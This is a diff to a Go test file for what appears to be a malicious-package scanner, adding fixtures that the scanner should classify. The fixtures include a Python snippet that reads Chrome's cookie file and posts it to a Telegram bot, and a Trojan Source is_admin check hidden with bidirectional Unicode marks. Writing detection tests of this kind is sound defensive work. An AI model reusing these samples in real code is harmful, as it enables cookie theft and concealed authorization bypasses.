@@ -114,6 +114,10 @@ func TestFalsePositiveClasses(t *testing.T) {
 			"import os, requests\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Network', 'Cookies')\n" +
 			"requests.post('https://api.telegram.org/bot123456:AAE/sendDocument', data={'chat_id': '42'}, files={'document': open(p, 'rb')})\n"}, Malicious},
 
+		{"chat", "a helper given the bot token the module holds", map[string]string{"p/report.py": "" +
+			"import requests\ndef send(token, chat, text):\n    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'chat_id': chat, 'text': text})\n" +
+			"def report(data):\n    send('123456789:AAHfakefakefakefakefakefakefakefake', '42', data)\n"}, Suspicious},
+
 		// Generated tables and model weights are long and dense; so are
 		// packed payloads, but those are run.
 		{"tables", "generated character table and model weights", map[string]string{"p/_tables.py": charTable(), "p/model/weights.py": weightsModule(rng)}, Clean},
@@ -124,6 +128,8 @@ func TestFalsePositiveClasses(t *testing.T) {
 		// marks; Trojan Source turns code around with the same marks.
 		{"bidi", "right-to-left test string with balanced embedding", map[string]string{"p/tests/test_checks.py": "" +
 			"def test_quotes():\n    assert passes('The <area> tag.', 'مشخصه \u202a<area shape=\"circle\">\u202c منفی است.')\n"}, Clean},
+		{"bidi", "a linter's test data turning code around", map[string]string{"tests/functional/b/bidirectional_unicode.py": "" +
+			"def is_admin(access_level):\n    if access_level != \"user\u202e \u2066# check if admin\u2069 \u2066\":  # [bidirectional-unicode]\n        return True\n    return False\n"}, Clean},
 		{"bidi", "string turned around to hide a comparison", map[string]string{"p/auth.py": "" +
 			"def is_admin(access_level):\n    if access_level != \"user\u202e \u2066# check if admin\u2069 \u2066\":\n        return True\n    return False\n"}, Suspicious},
 	}
